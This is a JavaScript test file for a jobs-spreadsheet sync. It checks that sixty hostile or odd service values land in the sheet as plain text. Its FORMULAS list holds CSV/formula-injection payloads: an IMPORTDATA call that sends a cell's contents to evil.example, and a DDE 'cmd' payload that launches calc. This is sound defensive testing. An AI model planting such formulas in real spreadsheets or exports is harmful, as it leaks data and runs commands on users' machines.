/** Sixty hostile values in a service's records: the tab contains each once, as text. */
import { useHttpServer } from '../support/http-server.js';
import { syncOf, useJobsSpreadsheet } from './jobs-spreadsheet.js';

const FORMULAS = [
  ['=1+1', '=IMPORTDATA("https://evil.example/?"&A1)', '+1+1', '-2+3', '@SUM(A1:A9)', '=HYPERLINK("x","y")'],
  ['==', '=', "'=1+1", "''quoted", "=cmd|' /C calc'!A0", ' =1+1', '\t=1+1', '\n=1+1', '\r=1+1', '=\u00a01'],
  ['＝1+1', '{=1+1}', '=EXPANSIONS()', '-', '+', '@', "'"],
].flat();
const LOOK_ALIKES = [
  ['TRUE', 'false', 'WAHR', '1', '00123', '1e5', '1.5', '1,5', '50%', '$100', '2026-01-05', '5/1/2026'],
  ['5 May', '12:30', '1/2', '(100)', '#REF!', '#N/A', 'NaN', 'null', 'undefined', 'Infinity', '0x1F'],
].flat();
const ODD = [
  ['a\tb', 'line\nbreak', 'zero\u0000byte', '\u202eright to left', 'e\u0301', '\u00e9', '👩‍💻', '\ud800half'],
  ['<b>bold</b>', '&lt;script&gt;', '"quotes"', 'x'.repeat(60_000), '\u200bzero width', '\ufeffmark'],
].flat();
const VALUES = [...FORMULAS, ...LOOK_ALIKES, ...ODD];

/** Markup, control characters and half surrogates are removed. */
const ALTERED = ['<', '&', '\t', '\n', '\r', '\u0000', '\ud800', '\ufeff'];

/** Ids that a comparison could confuse. */
const IDS = [
  ['1', '01', '1.0', '1e0', 'TRUE', 'true', '=1', "'1", 'a', 'A', '2026-01-05', '1/5/2026', 'x y', 'x  y'],
].flat();

let requests = 0;

const server = useHttpServer(({ url = '' }, response) => {
  // the server answers every request alike, and a sync first requests an estimate
  if (!url.endsWith('/estimate')) requests += 1;
  const records = Array.from({ length: VALUES.length }, (_, index) => ({
    id: IDS[index] ?? `id-${index}`,
    announcedDate: '2026-01-05',
    title: VALUES[index],
    company: { name: VALUES[(index + 7) % VALUES.length] },
    lastModified: sheet.dayAgo(1),
  }));
  response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(records));
});

const sheet = useJobsSpreadsheet(() => ({ baseUrl: server.url, apiKey: 'key_0123456789' }));

test('sixty hostile values are written as text, once, however often the service sends them', async () => {
  const formula = '=EXPANSIONS(, "columns", "company|title")';
  const input = syncOf(sheet, { formula, from: sheet.dayAgo(1) });
  await sheet.makeAndRun(input);
  expect(requests).toBe(1);
  const first = sheet.host.workbook.read("'Synced'!A1:C70");
  expect(first.flat().filter(({ formula }) => formula !== '')).toEqual([]);
  const rows = sheet.rowsById('Synced');
  expect(rows.size).toBe(VALUES.length);
  for (const [index, value] of VALUES.entries()) {
    const shown = rows.get(IDS[index] ?? `id-${index}`)?.['Headline'];
    expect([index, typeof shown]).toEqual([index, 'string']);
    if (!ALTERED.some((mark) => value.includes(mark)) && value.trim() === value && value.length < 50_000) {
      expect([index, shown]).toEqual([index, value]);
    }
  }
  // another job for the same days writes the same records again, without a request
  await sheet.makeAndRun({ ...input, name: 'Again' });
  expect(requests).toBe(1);
  const again = sheet.host.workbook.read("'Synced'!A1:C70");
  expect(again.map((row) => row.map(({ value, note }) => [value, note]))).toEqual(
    first.map((row) => row.map(({ value, note }) => [value, note])),
  );
  const { jobs } = await sheet.call('sidebarState');
  expect(jobs.map(({ name, added, changed }) => [name, added, changed])).toEqual([
    ['All expansions', 60, 0],
    ['Again', 0, 0],
  ]);
});
